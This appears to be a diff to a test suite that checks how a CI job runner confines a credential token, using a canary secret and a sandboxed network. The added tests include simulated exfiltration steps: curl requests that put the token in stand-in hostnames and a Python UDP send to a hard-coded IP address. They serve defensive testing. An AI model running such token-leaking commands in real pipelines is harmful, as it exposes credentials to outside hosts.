@@ -56,7 +56,7 @@ def hunt(label):
 def secret_job(as_=None, extra=()):
     steps = [step("early", hunt("early"), FETCH), step("make", "mkdir -p dist; echo x >dist/a\n" + hunt("make")),
              step("publish", 'test -n "$TOKEN"; printf %s "$TOKEN" | sha256sum | cut -c 1-64 | sed "s/.*/@@digest=&@@/"; sleep 1; echo "$TOKEN"', PUSH),
-             step("late", hunt("late")), *extra]
+             step("neighbour", 'echo "@@neighbour=${TOKEN:-none}@@"\n' + hunt("neighbour"), PUSH), step("late", hunt("late")), *extra]
     job = Job(steps, {"push": {"artifacts": ["dist/**"]}},
               credentials={"registry": {"from": {"file": "@SECRET@"}, "for": {"phase": "push", "steps": ["publish"]}, "as": as_ or {"env": "TOKEN"}, "ttl": "5m"}})
     path = job.write("secrets/token", CANARY)
@@ -85,7 +85,8 @@ def _():
         r = job.run(timeout=90)
         equal(r.rc, 0, "exit status", r)
         equal(r.mark("digest"), hashlib.sha256(CANARY.encode()).hexdigest(), "what the push step held", r)
-        for label in ("early", "make", "late"):
+        equal(r.mark("neighbour"), "none", "the variable in another push step", r)
+        for label in ("early", "make", "neighbour", "late"):
             equal(r.mark("hits-" + label), "[]", f"places with the canary in step {label}", r)
             check(int(r.mark("looked-" + label)) > 5, "the search looked nowhere", r)
         for where, _, files in os.walk(job.dir):
@@ -148,7 +149,11 @@ def read(path):
 def _():
     canary = "canary-7hq2" + os.urandom(8).hex()
     W["dns"].say(canary + ".wild.test", ALLOWED)
-    job = Job([step("publish", """curl -s -m 4 "http://$TOKEN.wild.test/$TOKEN?q=$TOKEN" | sed 's/.*/@@got=&@@/'; curl -s -m 4 "http://$TOKEN.nope.test/" || true""", PUSH)],
+    job = Job([step("publish", """curl -s -m 4 "http://$TOKEN.wild.test/$TOKEN?q=$TOKEN" | sed 's/.*/@@got=&@@/'; curl -s -m 4 "http://$TOKEN.nope.test/" || true
+python3 -c 'import socket, time
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try: s.sendto(b"x", ("45.10.20.66", 9999))
+except OSError: time.sleep(0.5)' "$TOKEN" """, PUSH)],
               {"push": {"egress": [{"host": "*.wild.test", "port": 80}]}},
               credentials={"registry": {"from": {"env": "DD_CANARY"}, "for": {"phase": "push", "steps": ["publish"]}, "as": {"env": "TOKEN"}, "ttl": "5m"}})
     try:
@@ -158,7 +163,12 @@ def _():
         check(canary not in r.out, "the secret is in the output", r)
         for event in r.record:
             check(canary not in str(event), f"the secret is in {event}", r)
-        check(r.events("net.allow") and r.events("dns.deny"), "the record lacks the attempts: the test proves nothing", r)
+        denied = r.events("dns.deny")
+        check(r.events("net.allow") and denied, "the record lacks the attempts: the test proves nothing", r)
+        # Cut to length, a secret could stand there in part: of a step that holds one no arguments are shown at all.
+        denied += r.events("net.deny")
+        check(all(not (e["process"] or {}).get("argv") for e in denied), f"arguments of a step with a credential: {denied}", r)
+        check(any("python" in (e["process"] or {}).get("exe", "") for e in denied), f"the process is not named: {denied}", r)
     finally:
         job.close()
 
